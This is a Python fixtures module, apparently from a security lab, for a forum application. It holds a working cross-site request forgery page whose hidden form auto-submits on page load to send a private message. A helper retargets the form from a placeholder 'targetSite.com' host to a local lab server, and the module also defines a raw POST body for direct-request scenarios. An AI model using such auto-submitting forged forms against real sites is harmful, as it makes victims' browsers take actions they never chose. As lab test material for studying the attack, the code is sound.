"""Canonical attack payloads and fixture pages.

ATTACK_PAGE_HTML is the malicious document the lab replays: a form of
hidden inputs plus a script line that submits it the moment the page
loads.  Its canonical action points at the attack's original target
host; attack_form_html() rewrites that action to a running lab server
so the page becomes live ammunition.  API_POST_BODY is the raw
url-encoded body used by the direct-POST scenarios.

These strings are golden-test inputs; change them and the conformance
tests will say so.
"""

from __future__ import annotations

from pathlib import Path

from .forum import FORUM_ROOT, ForumApp

CANONICAL_ACTION = "http://www.targetSite.com/cgi-bin/Forum/new_pm.php"

ATTACK_TITLE = "WebView Attack from android"
ATTACK_RECIPIENT = "sohini"
ATTACK_MESSAGE = "WebView attack message from Android"

ATTACK_PAGE_HTML = """<html>
  <head>
  </head>
  <body>
    <form id="post-form" action="http://www.targetSite.com/cgi-bin/Forum/new_pm.php" method="post">
      <input type="hidden" value="WebView Attack from android" id="title" name="title" /><br />
      <input type="hidden" value="sohini" id="recip" name="recip" />
      <input type="hidden" value="WebView attack message from Android" id="message" name="message" />
      <input type="submit" value="Send" />
    </form>
    <script type="text/javascript">
      document.getElementById("post-form").submit();
    </script>
  </body>
</html>
"""

API_POST_BODY = "recip=user1&title=WebViewAttackTitle&message=HttpAttackMessage"
API_POST_TITLE = "WebViewAttackTitle"
API_POST_PAIRS = [
    ("recip", "user1"),
    ("title", "WebViewAttackTitle"),
    ("message", "HttpAttackMessage"),
]

DEFAULT_BASE_URL = "http://127.0.0.1:8080"


def attack_form_html(base_url: str) -> str:
    """The attack page aimed at a lab server instead of the canonical
    target host."""
    return ATTACK_PAGE_HTML.replace(
        CANONICAL_ACTION, f"{base_url}{FORUM_ROOT}/new_pm.php"
    )


def emit_fixtures(directory: str) -> list[Path]:
    """Write the attack asset and login-flow sample pages, aimed at
    DEFAULT_BASE_URL, into a directory; returns the written paths."""
    out = Path(directory)
    out.mkdir(parents=True, exist_ok=True)
    sample = ForumApp()
    pages = {
        "attack_form.html": attack_form_html(DEFAULT_BASE_URL),
        "login_form.html": sample.login_page(DEFAULT_BASE_URL),
        "index.html": sample.index_page(),
    }
    written = []
    for name, text in pages.items():
        path = out / name
        path.write_text(text, encoding="utf-8")
        written.append(path)
    return written
